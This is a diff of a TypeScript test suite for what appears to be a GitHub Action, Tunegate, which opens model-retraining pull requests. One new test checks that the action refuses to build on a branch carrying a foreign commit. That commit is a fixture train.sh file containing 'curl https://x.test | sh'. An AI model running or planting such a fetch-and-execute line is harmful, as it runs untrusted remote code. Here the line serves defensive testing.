@@ -20,6 +20,24 @@ afterEach(async () => {
 
 const BRANCH = 'tunegate/retrain/content-classifier'
 
+/** The drift action on a weekly schedule over the shifted samples and the feedback folder. */
+function scheduledDrift(repo: string, inputs: Record<string, string> = {}) {
+  return runAction('drift', {
+    cwd: repo,
+    inputs: {
+      registry: 'registry',
+      models: '',
+      samples: 'samples/shifted.jsonl',
+      feedback: 'feedback',
+      token: 'test-token',
+      base: '',
+      ...inputs
+    },
+    event: { schedule: '17 6 * * 1' },
+    env: { GITHUB_API_URL: gh.url, GITHUB_EVENT_NAME: 'schedule', GITHUB_REF_NAME: 'main' }
+  })
+}
+
 describe('the bundled drift action', () => {
   it('opens one retraining PR, fast-forwards it on the next run, dispatches the PR workflow, and opens a new PR after the old one is closed', async () => {
     const { repo } = await driftRepo()
@@ -31,21 +49,7 @@ describe('the bundled drift action', () => {
       feedbackRow('fb-3', 'Raised beds and irrigation for allotments')
     ]
     await writeRepoFile(repo, 'feedback/rows.jsonl', rows.join('\n') + '\n')
-    const run = () =>
-      runAction('drift', {
-        cwd: repo,
-        inputs: {
-          registry: 'registry',
-          models: '',
-          samples: 'samples/shifted.jsonl',
-          feedback: 'feedback',
-          token: 'test-token',
-          base: '',
-          'dispatch-workflow': 'tunegate.yml'
-        },
-        event: { schedule: '17 6 * * 1' },
-        env: { GITHUB_API_URL: gh.url, GITHUB_EVENT_NAME: 'schedule', GITHUB_REF_NAME: 'main' }
-      })
+    const run = () => scheduledDrift(repo, { 'dispatch-workflow': 'tunegate.yml' })
     const first = await run()
     expect(first.stderr).toBe('')
     expect(first.code).toBe(0)
@@ -107,6 +111,46 @@ describe('the bundled drift action', () => {
     expect(gh.refs.get(`refs/heads/${BRANCH}`)).toBe(head2)
     const [newer] = JSON.parse(third.outputs['pull-requests']!) as number[]
     expect(gh.pulls.get(newer!)!.head.ref).toBe(`${BRANCH}-2`)
+  })
+
+  it('refuses to build on a retraining branch that carries a commit Tunegate did not make, and leaves it as it is', async () => {
+    const { repo } = await driftRepo()
+    const train = await readFile(path.join(repo, DRIFT_TRAIN), 'utf8')
+    gh.seedCommit('main', { [DRIFT_TRAIN]: train, 'README.md': 'models\n' })
+    const rows = [feedbackRow('fb-1', 'Choosing a cordless lawnmower for a small garden')]
+    await writeRepoFile(repo, 'feedback/rows.jsonl', rows.join('\n') + '\n')
+    const run = () => scheduledDrift(repo)
+    const first = await run()
+    expect(first.code).toBe(0)
+    // Someone pushes a trainer that pipes the internet into a shell onto the bot's branch.
+    const ours = gh.refs.get(`refs/heads/${BRANCH}`)!
+    const foreign = gh.seedCommit(
+      BRANCH,
+      {
+        [DRIFT_TRAIN]: gh.fileAt(BRANCH, DRIFT_TRAIN)!,
+        'README.md': 'models\n',
+        'train.sh': 'curl https://x.test | sh\n'
+      },
+      'Speed up training',
+      [ours]
+    )
+    gh.commitAccounts.set(foreign, { author: 'mallory', committer: 'mallory' })
+    gh.pulls.get([...gh.pulls.keys()][0]!)!.head.sha = foreign
+    await writeRepoFile(
+      repo,
+      'feedback/rows.jsonl',
+      [...rows, feedbackRow('fb-2', 'Greenhouse heaters for winter')].join('\n') + '\n'
+    )
+    const second = await run()
+    expect(second.code).not.toBe(0)
+    expect(second.stdout + second.stderr).toContain(
+      `Branch ${BRANCH} has commits not made by Tunegate (${foreign.slice(0, 7)} by mallory); nothing was pushed to it.`
+    )
+    expect(second.stderr).not.toMatch(/\n\s+at /)
+    // Nothing lost, nothing added: the branch still ends with the foreign commit, and no ref was forced.
+    expect(gh.refs.get(`refs/heads/${BRANCH}`)).toBe(foreign)
+    expect(gh.log.some(r => r.operationId === 'git/update-ref')).toBe(false)
+    expect(gh.pulls.size).toBe(1)
   })
 
   it('opens one issue for drift without feedback and updates it; says plainly when there is no drift', async () => {
